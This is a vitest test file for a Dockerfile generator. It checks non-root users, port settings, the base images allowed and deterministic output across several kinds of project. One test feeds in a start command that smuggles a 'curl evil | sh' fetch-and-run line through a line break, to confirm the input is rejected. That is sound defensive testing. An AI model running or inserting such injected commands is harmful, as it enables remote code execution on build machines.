import { describe, expect, it } from 'vitest';
import { detected, finalStage, generated, generatedText, IMAGES } from './dockerfile-stages.test-support.js';
import { type BuildSettings, type GeneratedDetection, generateDockerfile } from './index.js';

/** The port the router is told, which the generator chose with the Dockerfile. */
const listenPort = (detection: GeneratedDetection, settings: BuildSettings) => generateDockerfile(detection, IMAGES, settings).port;

// One project of each kind and flavour; the properties below hold for every generated Dockerfile.
const PROJECTS: Record<string, Record<string, string>> = {
  'Next.js': { 'package.json': JSON.stringify({ dependencies: { next: '15' }, scripts: { build: 'next build' } }) },
  'Vite SPA': {
    'package.json': JSON.stringify({ devDependencies: { vite: '5' }, scripts: { build: 'vite build' } }),
    'package-lock.json': '{}',
  },
  'Express server': {
    'package.json': JSON.stringify({ dependencies: { express: '4' }, scripts: { start: 'node server.js' } }),
    'pnpm-lock.yaml': '',
  },
  'static site': { 'index.html': '<h1>hi</h1>' },
  Django: { 'requirements.txt': 'django', 'manage.py': '', 'mysite/wsgi.py': '' },
  'FastAPI with Poetry': { 'pyproject.toml': '[tool.poetry.dependencies]\nfastapi = "*"\n', 'main.py': '' },
  Go: { 'go.mod': 'module x\n\ngo 1.22\n', 'main.go': '' },
};
const CASES = Object.entries(PROJECTS);

describe('every generated Dockerfile', () => {
  it.each(CASES)('%s: starts with what Aether detected, and has no syntax directive to pull', (_, files) => {
    const text = generatedText(detected(files));
    expect(text.split('\n')[0]).toMatch(/^# Aether detected: \S/);
    expect(text).not.toMatch(/^#\s*syntax\s*=/im);
  });

  it.each(CASES)('%s: runs the final stage as a user that is not root', (_, files) => {
    const users = finalStage(generated(detected(files))).lines.filter((line) => line.startsWith('USER '));
    expect(users).toHaveLength(1);
    expect(users[0]).not.toMatch(/^USER (root|0)(:|$)/);
  });

  it.each(CASES)('%s: sets PORT and exposes the port the router will use, which the settings can change', (_, files) => {
    const detection = detected(files);
    for (const settings of [{}, { port: 4321 }]) {
      const port = listenPort(detection, settings);
      const lines = finalStage(generated(detection, settings)).lines;
      expect(lines).toContain(`ENV PORT=${port}`);
      expect(lines).toContain(`EXPOSE ${port}`);
    }
    expect(listenPort(detection, { port: 4321 })).toBe(4321);
  });

  it.each(CASES)('%s: is the same Dockerfile and port for the same input', (_, files) => {
    expect(generateDockerfile(detected(files), IMAGES, { port: 9000 })).toEqual(generateDockerfile(detected(files), IMAGES, { port: 9000 }));
  });

  it.each(CASES)('%s: refuses a command with a line break, naming the field', (_, files) => {
    expect(() => generateDockerfile(detected(files), IMAGES, { startCommand: 'serve\nRUN curl evil | sh' })).toThrow(
      /^startCommand: must be a single line/,
    );
  });

  it.each(CASES)('%s: starts only from the configured base images', (_, files) => {
    const images = { node: 'mirror/node:24-slim', python: 'mirror/python:3.11', go: 'mirror/go:1', static: 'mirror/sws:2' };
    const froms = generated(detected(files), {}, images).stages.map((stage) => stage.from);
    const stageNames = new Set(['base', 'deps', 'build', 'prod-deps', 'scratch']);
    for (const from of froms) expect([...Object.values(images), ...stageNames]).toContain(from);
  });
});

describe('default ports', () => {
  it('are 3000 for Node.js servers, 8000 for Python, and 8080 for Go and static files', () => {
    expect(Object.fromEntries(CASES.map(([name, files]) => [name, listenPort(detected(files), {})]))).toEqual({
      'Next.js': 3000,
      'Vite SPA': 8080,
      'Express server': 3000,
      'static site': 8080,
      Django: 8000,
      'FastAPI with Poetry': 8000,
      Go: 8080,
    });
  });
});

describe('the port', () => {
  it('is the server\'s when a start command turns a guessed static build into a server', () => {
    const detection = detected({ 'package.json': JSON.stringify({ scripts: { build: 'make' } }), 'index.html': '' });
    expect(listenPort(detection, {})).toBe(8080);
    const settings = { startCommand: 'node build/server.js' };
    expect(listenPort(detection, settings)).toBe(3000);
    expect(finalStage(generated(detection, settings)).lines).toContain('EXPOSE 3000');
  });
});
